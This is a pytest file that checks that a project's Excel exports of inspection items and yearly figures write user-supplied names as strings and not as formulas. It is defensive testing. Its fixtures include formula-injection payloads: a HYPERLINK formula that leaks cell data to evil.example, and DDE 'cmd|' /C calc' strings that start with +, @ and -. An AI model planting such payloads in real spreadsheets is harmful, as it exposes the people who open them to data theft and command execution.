"""Formula injection: the item list and the year's figures exported to .xlsx never carry a
formula written by a user (an entity, item or plan named ``=HYPERLINK(...)``)."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from fazhi.core import clock
from fazhi.inspections.selectors import figures as figure_selectors
from fazhi.inspections.selectors import items as item_selectors
from fazhi.inspections.services import items as item_services
from fazhi.inspections.tests.task_support import (
    category,
    make_entity,
    make_plan,
    make_task,
    make_task_world,
)

pytestmark = pytest.mark.django_db
LINK = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
PLUS = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def _cell(sheet, text):
    return next(c for row in sheet.iter_rows() for c in row if c.value == text)


def test_item_export_writes_hostile_text_as_strings():
    world = make_task_world()
    item_services.item_create(
        actor=world.planner,
        organisation=world.org,
        category=category("public_places"),
        code="GG-1",
        name=LINK,
        legal_basis=PLUS,
        content=AT,
        applicable_kinds=["public_place_lodging"],
        default_ratio="5",
        frequency=MINUS,
    )
    sheet = load_workbook(io.BytesIO(item_selectors.item_export_xlsx(user=world.planner))).active
    for text in (LINK, PLUS, AT, MINUS):
        assert _cell(sheet, text).data_type == "s"
    ratio = sheet.cell(row=2, column=7)
    assert (ratio.data_type, ratio.value) == ("n", 5)  # a number stays a number


def test_figures_export_writes_hostile_names_as_strings():
    world = make_task_world()
    plan = make_plan(world, items=[], title=MINUS)
    make_task(world, plan=plan, entity=make_entity(world, name=LINK))
    year = clock.today().year
    book = load_workbook(io.BytesIO(figure_selectors.figures_xlsx(user=world.planner, year=year)))
    assert _cell(book["分计划"], MINUS).data_type == "s"
    assert _cell(book["任务明细"], LINK).data_type == "s"
    assert _cell(book["任务明细"], MINUS).data_type == "s"
    drawn = book["分计划"].cell(row=2, column=3)
    assert (drawn.data_type, drawn.value) == ("n", 1)
